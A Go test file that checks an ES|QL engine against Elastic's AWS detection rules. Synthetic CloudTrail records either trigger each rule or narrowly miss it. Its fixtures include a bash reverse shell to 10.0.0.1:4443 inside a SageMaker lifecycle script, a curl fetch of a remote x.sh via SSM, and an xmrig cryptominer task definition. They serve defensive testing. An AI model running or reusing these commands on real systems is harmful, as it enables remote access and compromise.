package esql

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"testing"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/trailwatch/trailwatch/cloudtrail/doc"
	"github.com/trailwatch/trailwatch/matcher"
)

// The rule corpus is Elastic's detection rules in ../shared, which the
// project does not carry: these tests read the queries from there and skip
// when it is absent.
const corpusDir = "../../../shared/detection-rules/aws"

type corpusRule struct {
	file, query string
}

// esqlCorpus reads the ES|QL rules of the corpus, by file name.
func esqlCorpus(t testing.TB) map[string]string {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(corpusDir, "*.toml"))
	if len(files) == 0 {
		t.Skipf("the rule corpus is not at %s (../shared/detection-rules/aws, next to the project): skipped", corpusDir)
	}
	out := map[string]string{}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var r struct {
			Rule struct {
				Language string `toml:"language"`
				Query    string `toml:"query"`
			} `toml:"rule"`
		}
		if _, err := toml.Decode(string(b), &r); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		if r.Rule.Language == "esql" {
			out[filepath.Base(f)] = r.Rule.Query
		}
	}
	return out
}

// javaMap renders a JSON object as the pipeline writes request_parameters
// and response_elements: Java's Map.toString() of the HashMap, keys in the
// HashMap's order.
func javaMap(t *testing.T, js string) string {
	t.Helper()
	n, err := doc.ParseJSON([]byte(js))
	if err != nil {
		t.Fatalf("%s: %v", js, err)
	}
	return n.JavaString()
}

// corpusProgram compiles a corpus rule and checks whether it aggregates.
func corpusProgram(t *testing.T, rules map[string]string, file string, aggregating bool) *Program {
	t.Helper()
	q, ok := rules[file]
	if !ok {
		t.Fatalf("%s is not in the corpus", file)
	}
	p := mustCompile(t, q)
	if p.IsAggregating() != aggregating {
		t.Fatalf("IsAggregating() = %v", p.IsAggregating())
	}
	return p
}

// TestCorpusCompiles: every ES|QL rule of the corpus parses and compiles
// against the AWS integration's schema, and the count is the corpus's.
func TestCorpusCompiles(t *testing.T) {
	rules := esqlCorpus(t)
	if len(rules) != 25 {
		t.Errorf("%d ES|QL rules, want 25", len(rules))
	}
	names := make([]string, 0, len(rules))
	for n := range rules {
		names = append(names, n)
	}
	sort.Strings(names)
	agg := 0
	for _, n := range names {
		p, err := Compile(testSchema, rules[n])
		if err != nil {
			t.Errorf("%s: %v", n, err)
			continue
		}
		if p.IsAggregating() {
			agg++
		}
	}
	if agg != 18 {
		t.Errorf("%d aggregating rules, want 18", agg)
	}
}

// TestCorpusRecordRules: for each rule without STATS, a record written for
// it gives a row (an alert), and a near miss gives none; the prefilter
// holds for the record.
func TestCorpusRecordRules(t *testing.T) {
	rules := esqlCorpus(t)
	script := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	cases := []struct {
		file      string
		yes, miss matcher.MapFields
		cols      map[string][]string // columns of the row and their values
	}{
		{
			file: "exfiltration_ecr_repository_policy_granted_public_access.toml",
			yes: rec("event.provider", "ecr.amazonaws.com", "event.action", "SetRepositoryPolicy", "event.outcome", "success",
				"aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"repositoryName":"app","policyText":"{\"Statement\":[{\"Effect\": \"Allow\",\"Principal\": \"*\",\"Action\":\"ecr:BatchGetImage\"}]}"}`)),
			miss: rec("event.provider", "ecr.amazonaws.com", "event.action", "SetRepositoryPolicy", "event.outcome", "success",
				"aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"repositoryName":"app","policyText":"{\"Statement\":[{\"Effect\": \"Allow\",\"Principal\": {\"AWS\": \"arn:aws:iam::111122223333:root\"}}]}"}`)),
		},
		{
			file: "impact_bedrock_api_key_destructive_action.toml",
			yes: rec("event.provider", "bedrock.amazonaws.com", "event.action", "DeleteGuardrail",
				"aws.cloudtrail.additional_eventdata", "{callWithBearerToken=true}"),
			miss: rec("event.provider", "bedrock.amazonaws.com", "event.action", "DeleteGuardrail",
				"aws.cloudtrail.additional_eventdata", "{callWithBearerToken=false}"),
		},
		{
			file: "impact_s3_object_encryption_with_external_key.toml",
			yes: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "CopyObject",
				"event.outcome", "success", "cloud.account.id", "111111111111",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"dst","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:us-east-1:999999999999:key/k-123","Host":"dst.s3.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"dst/report.pdf","key":"report.pdf"}`)),
			miss: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "CopyObject",
				"event.outcome", "success", "cloud.account.id", "999999999999",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"dst","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:us-east-1:999999999999:key/k-123","Host":"dst.s3.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"dst/report.pdf","key":"report.pdf"}`)),
			cols: map[string][]string{
				"Esql.aws_cloudtrail_request_parameters_target_bucket_name": {"dst"},
				"Esql.aws_cloudtrail_request_parameters_kms_key_account_id": {"999999999999"},
				"Esql.aws_cloudtrail_request_parameters_kms_key_id":         {"k-123"},
				"Esql.aws_cloudtrail_request_parameters_target_object_key":  {"report.pdf"},
				"cloud.account.id": {"111111111111"},
			},
		},
		{
			file: "impact_s3_static_site_js_file_uploaded.toml",
			yes: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "PutObject",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "AssumedRole", "user_agent.original", "aws-cli/2.15",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"site","Host":"site.s3.us-east-1.amazonaws.com","key":"static/js/main.3f2a.js"}`)),
			miss: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "PutObject",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "AssumedRole", "user_agent.original", "aws-cli/2.15",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"site","Host":"site.s3.us-east-1.amazonaws.com","key":"static/js/main.3f2a.js.map"}`)),
			cols: map[string][]string{
				"Esql.aws_cloudtrail_request_parameters_bucket_name": {"site"},
				"Esql.aws_cloudtrail_request_parameters_object_key":  {"main.3f2a.js"},
			},
		},
		{
			file: "persistence_iam_user_created_access_keys_for_another_user.toml",
			yes: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "iam.amazonaws.com", "event.action", "CreateAccessKey",
				"event.outcome", "success", "user.name", "admin", "user.target.name", "svc-deploy"),
			miss: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "iam.amazonaws.com", "event.action", "CreateAccessKey",
				"event.outcome", "success", "user.name", "admin", "user.target.name", "admin"),
			cols: map[string][]string{"user.target.name": {"svc-deploy"}, "user.name": {"admin"}},
		},
		{
			file: "persistence_sagemaker_lifecycle_config_suspicious_script_content.toml",
			yes: rec("event.provider", "sagemaker.amazonaws.com", "event.action", "CreateNotebookInstanceLifecycleConfig",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"notebookInstanceLifecycleConfigName":"cfg","onStart":[{"content":"`+script("#!/bin/bash\nBASH -i >& /dev/tcp/10.0.0.1/4443 0>&1\n")+`"}]}`)),
			miss: rec("event.provider", "sagemaker.amazonaws.com", "event.action", "CreateNotebookInstanceLifecycleConfig",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"notebookInstanceLifecycleConfigName":"cfg","onStart":[{"content":"`+script("#!/bin/bash\npip install pandas\n")+`"}]}`)),
			cols: map[string][]string{"Esql_priv.aws_cloudtrail_lifecycle_script": {"#!/bin/bash\nBASH -i >& /dev/tcp/10.0.0.1/4443 0>&1\n"}},
		},
		{
			file: "privilege_escalation_bedrock_phantom_user_credentials_added.toml",
			yes: rec("event.provider", "iam.amazonaws.com", "event.action", "CreateLoginProfile", "event.outcome", "success",
				"user.target.name", "BedrockAPIKey-x7k2"),
			miss: rec("event.provider", "iam.amazonaws.com", "event.action", "CreateLoginProfile", "event.outcome", "success",
				"user.target.name", "alice"),
		},
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			p := corpusProgram(t, rules, c.file, false)
			row, ok := p.Eval(c.yes, testNow)
			if !ok {
				t.Fatalf("no row for %v", c.yes)
			}
			if !p.Prefilter().Match(c.yes) {
				t.Error("the prefilter refuses the record that gives a row")
			}
			for col, want := range c.cols {
				if got := texts(row.Values(col)); !equalStrings(got, want) {
					t.Errorf("%s = %q, want %q", col, got, want)
				}
			}
			if _, ok := p.Eval(c.miss, testNow); ok {
				t.Errorf("a row for the near miss %v", c.miss)
			}
		})
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// at is a time of the test's run, minutes and seconds before testNow.
func at(min, sec int) string {
	return testNow.Add(-time.Duration(min)*time.Minute - time.Duration(sec)*time.Second).Format(time.RFC3339Nano)
}

// with adds fields to a copy of a record.
func with(r matcher.MapFields, kv ...string) matcher.MapFields {
	out := matcher.MapFields{}
	for k, v := range r {
		out[k] = v
	}
	for k, v := range rec(kv...) {
		out[k] = v
	}
	return out
}

// times makes n records from one: each gets fields from fn(i).
func times(n int, base matcher.MapFields, fn func(i int) []string) []matcher.MapFields {
	out := make([]matcher.MapFields, n)
	for i := range out {
		out[i] = with(base, fn(i)...)
	}
	return out
}

var regions = []string{"us-east-1", "us-east-2", "us-west-1", "us-west-2", "eu-west-1", "eu-west-2", "eu-central-1", "ap-south-1", "ap-northeast-1", "sa-east-1"}

// change copies recs, with fields replaced in record i (every record when
// i < 0).
func change(recs []matcher.MapFields, i int, kv ...string) []matcher.MapFields {
	out := append([]matcher.MapFields(nil), recs...)
	for j := range out {
		if i < 0 || i == j {
			out[j] = with(out[j], kv...)
		}
	}
	return out
}

// pick is the i-th of values, cycling.
func pick(i int, values ...string) string { return values[i%len(values)] }

// TestCorpusAggregatingRules: for each rule with STATS, records written for
// it give the result row a run would alert on, and a near miss (the same
// records with one thing changed) gives none. Each set is also split
// between two accumulators that go through their bytes and are merged, as
// buckets are, and gives the same rows.
func TestCorpusAggregatingRules(t *testing.T) {
	rules := esqlCorpus(t)
	ct := rec("data_stream.dataset", "aws.cloudtrail", "event.dataset", "aws.cloudtrail")
	arn := "arn:aws:iam::111122223333:user/alice"
	type tcase struct {
		file      string
		yes, miss []matcher.MapFields
		want      map[string][]string // columns of the one row; nil: not null
	}
	var cases []tcase
	add := func(file string, yes, miss []matcher.MapFields, want map[string][]string) {
		cases = append(cases, tcase{file, yes, miss, want})
	}

	yes := []matcher.MapFields{
		with(ct, "event.action", "GetSecretValue", "source.ip", "203.0.113.5", "cloud.account.id", "111122223333"),
		rec("data_stream.dataset", "azure.platformlogs", "event.action", "SecretGet", "source.ip", "203.0.113.5", "cloud.account.id", "tenant-1"),
	}
	add("credential_access_multi_could_secrets_via_api.toml", yes, change(yes, 1, "data_stream.dataset", "aws.cloudtrail", "event.action", "GetSecretValue"),
		map[string][]string{"source.ip": {"203.0.113.5"}, "Esql.vendor_count_distinct": {"2"}, "Esql.events_count": {"2"},
			"Esql.tenant_label_values": {"aws:111122223333", "azure:tenant-1"}, "Esql.cloud_vendor_values": {"aws", "azure"}})

	yes = times(10, with(ct, "event.provider", "ec2.amazonaws.com", "event.action", "DescribeInstances", "aws.cloudtrail.user_identity.arn", arn),
		func(i int) []string { return []string{"cloud.region", regions[i], "@timestamp", at(5, 29-i)} })
	add("discovery_ec2_multi_region_describe_instances.toml", yes, change(yes, 0, "cloud.region", regions[1]),
		map[string][]string{"Esql.cloud_region_count_distinct": {"10"}, "Esql.event_count": {"10"}, "aws.cloudtrail.user_identity.arn": {arn},
			"Esql.time_window_date_trunc": {"2026-03-01T11:54:30.000Z"}})

	actions := [][2]string{{"iam", "ListUsers"}, {"iam", "ListRoles"}, {"sts", "GetCallerIdentity"}, {"ec2", "DescribeInstances"}, {"s3", "ListBuckets"}, {"kms", "GenerateDataKey"}}
	yes = times(6, with(ct, "source.ip", "198.51.100.7", "aws.cloudtrail.user_identity.type", "IAMUser", "user_agent.name", "aws-cli",
		"user.name", "alice", "aws.cloudtrail.user_identity.arn", arn, "@timestamp", at(3, 5)),
		func(i int) []string {
			return []string{"event.provider", actions[i][0] + ".amazonaws.com", "event.action", actions[i][1]}
		})
	add("discovery_multiple_discovery_api_calls_via_cli.toml", yes, change(yes, 5, "event.action", "PutKeyPolicy"),
		map[string][]string{"Esql.event_action_count_distinct": {"6"}, "aws.cloudtrail.user_identity.arn": {arn}})

	yes = times(16, with(ct, "event.provider", "s3.amazonaws.com", "event.outcome", "success", "aws.cloudtrail.user_identity.type", "IAMUser",
		"source.ip", "198.51.100.7", "aws.cloudtrail.user_identity.arn", arn, "@timestamp", at(2, 8)),
		func(i int) []string {
			return []string{"event.action", pick(i, "GetBucketAcl", "GetBucketPolicy"), "aws.cloudtrail.resources.arn", "arn:aws:s3:::bucket-" + string(rune('a'+i))}
		})
	add("discovery_s3_rapid_bucket_posture_api_calls.toml", yes, yes[:15],
		map[string][]string{"Esql.aws_cloudtrail_resources_arn_count_distinct": {"16"}, "source.ip": {"198.51.100.7"}})

	yes = times(10, with(ct, "event.provider", "servicequotas.amazonaws.com", "event.action", "GetServiceQuota", "aws.cloudtrail.user_identity.arn", arn,
		"aws.cloudtrail.request_parameters", javaMap(t, `{"serviceCode":"ec2","quotaCode":"L-1216C47A"}`)),
		func(i int) []string { return []string{"cloud.region", regions[i], "@timestamp", at(4, 20-i)} })
	add("discovery_servicequotas_multi_region_service_quota_requests.toml", yes,
		change(yes, -1, "aws.cloudtrail.request_parameters", javaMap(t, `{"serviceCode":"ec2","quotaCode":"L-34B43A08"}`)),
		map[string][]string{"Esql.cloud_region_count_distinct": {"10"}, "Esql.event_count": {"10"}})

	yes = []matcher.MapFields{
		with(ct, "event.action", "SendCommand", "@timestamp", at(10, 0), "aws.cloudtrail.user_identity.arn", arn,
			"aws.cloudtrail.request_parameters", javaMap(t, `{"documentName":"AWS-RunShellScript","instanceIds":["i-0abc"],"parameters":{"commands":["curl http://x"]}}`),
			"aws.cloudtrail.response_elements", javaMap(t, `{"command":{"commandId":"0b1c2d3e-4f50","documentName":"AWS-RunShellScript","instanceIds":["i-0abc"],"status":"Pending"}}`)),
		rec("data_stream.dataset", "endpoint.events.process", "host.os.type", "linux", "host.name", "web-1", "@timestamp", at(8, 0),
			"process.name", "curl", "process.command_line", "curl -s http://203.0.113.9/x.sh",
			"process.parent.command_line", "/bin/sh /var/lib/amazon/ssm/i-0abc/document/orchestration/0b1c2d3e-4f50/awsrunShellScript/0.awsrunShellScript/_script.sh"),
	}
	add("execution_aws_ec2_lolbin_via_ssm.toml", yes, yes[:1],
		map[string][]string{"Esql.aws_ssm_command_id": nil, "Esql.aws_cloudtrail_event_count": {"1"}, "Esql.endpoint_events_process_lolbin_count": {"1"},
			"Esql.host_name_values": {"web-1"}, "Esql_priv.aws_cloudtrail_user_identity_arn_values": {arn}})

	yes = times(3, rec("event.provider", "ec2.amazonaws.com", "event.outcome", "success", "aws.cloudtrail.user_identity.type", "IAMUser",
		"user_agent.original", "aws-cli/2.15", "source.address", "198.51.100.7", "source.ip", "198.51.100.7", "user.name", "alice", "cloud.account.id", "111122223333"),
		func(i int) []string {
			return []string{"event.action", pick(i, "StopInstances", "ModifyInstanceAttribute", "StartInstances"), "@timestamp", at(9-i, 0),
				"aws.cloudtrail.request_parameters", javaMap(t, pick(i, `{"instancesSet":{"items":[{"instanceId":"i-0abc"}]},"force":false}`,
					`{"instanceId":"i-0abc","userData":"<sensitiveDataRemoved>"}`, `{"instancesSet":{"items":[{"instanceId":"i-0abc"}]}}`))}
		})
	add("execution_ec2_stop_start_with_user_data_modification.toml", yes,
		change(yes, 1, "aws.cloudtrail.request_parameters", javaMap(t, `{"instanceId":"i-0abc","instanceType":{"value":"t3.large"}}`)),
		map[string][]string{"Esql.event_action_unique_count": {"3"}, "Esql.instance_id": {"i-0abc"}, "Esql.time_bucket": {"2026-03-01T11:50:00.000Z"}})

	yes = []matcher.MapFields{rec("event.provider", "lambda.amazonaws.com", "event.action", "Invoke", "event.outcome", "success",
		"aws.cloudtrail.user_identity.arn", arn, "source.ip", "198.51.100.7",
		"aws.cloudtrail.request_parameters", javaMap(t, `{"functionName":"arn:aws:lambda:us-east-1:222222222222:function:f","invocationType":"RequestResponse"}`))}
	add("execution_lambda_function_invoked_cross_account.toml", yes,
		change(yes, 0, "aws.cloudtrail.request_parameters", javaMap(t, `{"functionName":"arn:aws:lambda:us-east-1:111122223333:function:f"}`)),
		map[string][]string{"Esql.caller_account": {"111122223333"}, "Esql.function_account": {"222222222222"}, "Esql.invocation_count": {"1"}})

	yes = times(500, rec("event.provider", "bedrock.amazonaws.com", "event.action", "InvokeModel", "event.outcome", "success",
		"aws.cloudtrail.user_identity.arn", arn, "cloud.account.id", "111122223333",
		"aws.cloudtrail.request_parameters", javaMap(t, `{"modelId":"anthropic.claude-3-5-sonnet-20240620-v1:0"}`)),
		func(i int) []string { return []string{"@timestamp", at(50-i/10, i%60)} })
	add("exfiltration_bedrock_high_frequency_inference_api_probing.toml", yes, yes[:499],
		map[string][]string{"Esql.inference_call_count": {"500"}, "Esql.model_id": {"anthropic.claude-3-5-sonnet-20240620-v1:0"}})

	yes = []matcher.MapFields{
		rec("event.provider", "ecs.amazonaws.com", "event.action", "RegisterTaskDefinition", "aws.cloudtrail.user_identity.arn", arn, "cloud.region", "us-east-1",
			"aws.cloudtrail.request_parameters", javaMap(t, `{"family":"miner","containerDefinitions":[{"image":"docker.io/xmrig/xmrig:latest","name":"m"}],"cpu":"8192","memory":"16384"}`)),
		rec("event.provider", "ecs.amazonaws.com", "event.action", "RunTask", "aws.cloudtrail.user_identity.arn", arn, "cloud.region", "us-east-1"),
	}
	add("impact_ecs_cryptomining_task_definition_deployment.toml", yes,
		change(yes, 0, "aws.cloudtrail.request_parameters", javaMap(t, `{"family":"web","containerDefinitions":[{"image":"docker.io/library/nginx:latest","name":"w"}],"cpu":"1024"}`)),
		map[string][]string{"Esql.miner_register_sum": {"1"}, "Esql.task_run_sum": {"1"}, "Esql.event_count": {"2"}})

	yes = times(1000, rec("event.provider", "lambda.amazonaws.com", "event.action", "Invoke", "event.outcome", "success", "aws.cloudtrail.user_identity.arn", arn),
		func(i int) []string {
			return []string{"source.ip", pick(i, "198.51.100.1", "198.51.100.2", "198.51.100.3")}
		})
	add("impact_lambda_high_frequency_invocation.toml", yes, yes[:999],
		map[string][]string{"Esql.invocation_count": {"1000"}, "Esql.source_ips": {"198.51.100.1", "198.51.100.2", "198.51.100.3"}})

	yes = times(200, with(ct, "event.outcome", "success", "user.name", "alice", "aws.cloudtrail.user_identity.type", "IAMUser"),
		func(i int) []string {
			if i < 198 {
				return []string{"source.as.organization.name", "Amazon.com, Inc.", "event.action", "DescribeInstances", "@timestamp", at(120+i, 0)}
			}
			return []string{"source.as.organization.name", "Example Hosting", "event.action", pick(i, "GetCallerIdentity", "ListBuckets"), "@timestamp", at(218-i, 0)}
		})
	add("initial_access_aws_api_unusual_asn.toml", yes, change(yes, 199, "event.action", "GetCallerIdentity"),
		map[string][]string{"Esql.rare_asn_ratio": {"0.01"}, "Esql.unique_action_from_untrusted_asn": {"2"}, "Esql.trusted_cloud_event_count": {"198"},
			"Esql.untrusted_suspicious_actions": {"GetCallerIdentity", "ListBuckets"}, "Esql.most_recent_low_asn_day": {"2026-03-01T11:41:00.000Z"}})

	yes = times(2, rec("event.provider", "signin.amazonaws.com", "event.action", "ConsoleLogin", "event.outcome", "success",
		"aws.cloudtrail.user_identity.type", "IAMUser", "aws.cloudtrail.user_identity.arn", arn, "cloud.account.id", "111122223333"),
		func(i int) []string {
			return []string{"source.geo.country_iso_code", pick(i, "US", "BR"), "source.ip", pick(i, "198.51.100.7", "203.0.113.9")}
		})
	add("initial_access_console_login_iam_user_multiple_geolocations.toml", yes, change(yes, 1, "source.geo.country_iso_code", "US"),
		map[string][]string{"Esql.source_geo_country_iso_code_count_distinct": {"2"}, "Esql.source_geo_country_iso_code_values": {"BR", "US"}})

	yes = []matcher.MapFields{with(ct, "aws.cloudtrail.user_identity.access_key_id", "ASIAGH0000000001", "user.name", "gh-deploy", "cloud.account.id", "111122223333",
		"@timestamp", at(15, 0), "source.as.organization.name", "Example Hosting", "source.address", "203.0.113.9",
		"user_agent.original", "aws-sdk-js/3.0 configure-aws-credentials-for-github-actions")}
	add("initial_access_github_actions_oidc_credentials_used_from_suspicious_network.toml", yes,
		change(yes, 0, "source.as.organization.name", "Microsoft Corporation"),
		map[string][]string{"Esql.is_github_aws_key": {"1"}, "Esql.has_suspicious_asn": {"1"}, "Esql.last_seen_suspicious_asn": {"2026-03-01T11:45:00.000Z"}})

	// `not f == "true"` is null where f is missing: only records that carry
	// sessionCredentialFromConsole ("false" here) pass; the near miss lacks it.
	base := with(ct, "aws.cloudtrail.user_identity.arn", arn, "aws.cloudtrail.user_identity.type", "IAMUser",
		"aws.cloudtrail.user_identity.access_key_id", "ASIAUSER00000001", "user_agent.original", "aws-cli/2.15")
	yes = times(2, with(base, "aws.cloudtrail.session_credential_from_console", "false"),
		func(i int) []string {
			return []string{"source.ip", pick(i, "198.51.100.7", "203.0.113.9"), "source.as.organization.name", pick(i, "ISP One", "ISP Two"),
				"source.geo.city_name", pick(i, "Berlin", "Lagos"), "event.provider", pick(i, "iam.amazonaws.com", "s3.amazonaws.com"),
				"event.action", pick(i, "ListUsers", "ListBuckets"), "@timestamp", at(25-i*5, 0)}
		})
	miss := []matcher.MapFields{with(base), with(base)}
	for i := range miss {
		for k, v := range yes[i] {
			if k != "aws.cloudtrail.session_credential_from_console" {
				miss[i][k] = v
			}
		}
	}
	add("initial_access_iam_session_token_used_from_multiple_addresses.toml", yes, miss,
		map[string][]string{"Esql.activity_type": {"multiple_ip_network_city"}, "Esql.activity_fidelity_score": {"high"},
			"Esql.source_ip_city_pair_values": {"198.51.100.7 - Berlin", "203.0.113.9 - Lagos"}, "Esql.time_window_date_trunc": {"2026-03-01T11:30:00.000Z"}})

	yes = []matcher.MapFields{
		rec("event.action", "AssumeRoleWithWebIdentity", "user.name", "system:serviceaccount:default:app",
			"aws.cloudtrail.response_elements", javaMap(t, `{"credentials":{"accessKeyId":"ASIAK8SEXAMPLE00001","sessionToken":"x","expiration":"y"},"audience":"sts.amazonaws.com"}`)),
		rec("event.action", "ListBuckets", "aws.cloudtrail.user_identity.type", "AssumedRole", "aws.cloudtrail.user_identity.access_key_id", "ASIAK8SEXAMPLE00001"),
		rec("event.action", "GetSecretValue", "aws.cloudtrail.user_identity.type", "AssumedRole", "aws.cloudtrail.user_identity.access_key_id", "ASIAK8SEXAMPLE00001"),
	}
	add("lateral_movement_k8_assumed_web_identity_session_with_multi_phase_api_use.toml", yes,
		change(yes, 2, "aws.cloudtrail.user_identity.access_key_id", "ASIAOTHER0000001"),
		map[string][]string{"aws.cloudtrail.user_identity.access_key_id": {"ASIAK8SEXAMPLE00001"}, "Esql.post_exploit_count": {"3"},
			"Esql.attack_phases": {"credential_access", "initial_access", "recon"}})

	bob := with(ct, "event.outcome", "success", "aws.cloudtrail.user_identity.type", "IAMUser", "user.name", "bob",
		"aws.cloudtrail.user_identity.arn", "arn:aws:iam::111122223333:user/bob", "cloud.account.id", "111122223333")
	yes = []matcher.MapFields{
		with(bob, "event.provider", "iam.amazonaws.com", "event.action", "CreateAccessKey", "aws.cloudtrail.user_identity.access_key_id", "AKIAOLDKEY0000000001",
			"@timestamp", at(30, 0), "aws.cloudtrail.response_elements", javaMap(t, `{"accessKey":{"accessKeyId":"AKIANEWKEY0000000001","status":"Active","userName":"bob"}}`)),
		with(bob, "event.provider", "s3.amazonaws.com", "event.action", "ListBuckets", "aws.cloudtrail.user_identity.access_key_id", "AKIANEWKEY0000000001", "@timestamp", at(10, 0)),
	}
	add("persistence_iam_user_self_created_access_key_subsequently_used.toml", yes, change(yes, 0, "@timestamp", at(200, 0)),
		map[string][]string{"Esql_priv.aws_cloudtrail_access_key_id_correlation": {"AKIANEWKEY0000000001"}, "Esql.aws_cloudtrail_self_access_key_creation_count": {"1"},
			"Esql.aws_cloudtrail_created_access_key_use_count": {"1"}, "Esql_priv.aws_cloudtrail_user_identity_access_key_id_creator_values": {"AKIAOLDKEY0000000001"}})

	yes = []matcher.MapFields{with(ct, "event.provider", "sagemaker.amazonaws.com", "event.action", "CreateTrainingJob", "event.outcome", "success",
		"aws.cloudtrail.user_identity.type", "AssumedRole", "aws.cloudtrail.user_identity.arn", "arn:aws:sts::111122223333:assumed-role/dev/x",
		"aws.cloudtrail.user_identity.session_context.session_issuer.arn", "arn:aws:iam::111122223333:role/dev",
		"@timestamp", at(6, 0), "event.ingested", at(5, 0),
		"aws.cloudtrail.request_parameters", javaMap(t, `{"trainingJobName":"job1","roleArn":"arn:aws:iam::111122223333:role/SageMakerExec","algorithmSpecification":{"trainingImage":"x"}}`))}
	add("privilege_escalation_sagemaker_execution_role_passed_by_unusual_principal.toml", yes, change(yes, 0, "event.ingested", at(15, 0)),
		map[string][]string{"Esql.principal_arn": {"arn:aws:iam::111122223333:role/dev"}, "Esql.aws_cloudtrail_request_parameters_role_arn": {"arn:aws:iam::111122223333:role/SageMakerExec"}})

	if len(cases) != 18 {
		t.Fatalf("%d cases, want one for each of the 18 aggregating rules", len(cases))
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			p := corpusProgram(t, rules, c.file, true)
			pf := p.Prefilter()
			one, halves := p.NewAcc(), []*Acc{p.NewAcc(), p.NewAcc()}
			for i, r := range c.yes {
				row, ok := p.Eval(r, testNow)
				if ok && !pf.Match(r) {
					t.Errorf("the prefilter refuses record %d, which gives a row", i)
				}
				if ok {
					one.Add(row)
					halves[i%2].Add(row)
				}
			}
			rows := p.Results(one, testNow)
			if len(rows) != 1 {
				t.Fatalf("%d rows, want 1: %q", len(rows), render(rows))
			}
			for col, want := range c.want {
				got := texts(rows[0].Values(col))
				if want == nil && got == nil || want != nil && !equalStrings(got, want) {
					t.Errorf("%s = %q, want %q", col, got, want)
				}
			}
			if got, want := render(p.Results(mergeThroughBytes(t, p, halves...), testNow)), render(rows); !reflect.DeepEqual(got, want) {
				t.Errorf("merged halves:\n%q\nwant\n%q", got, want)
			}
			miss := p.NewAcc()
			feed(p, miss, c.miss...)
			if rows := p.Results(miss, testNow); len(rows) != 0 {
				t.Errorf("the near miss gives %q", render(rows))
			}
		})
	}
}
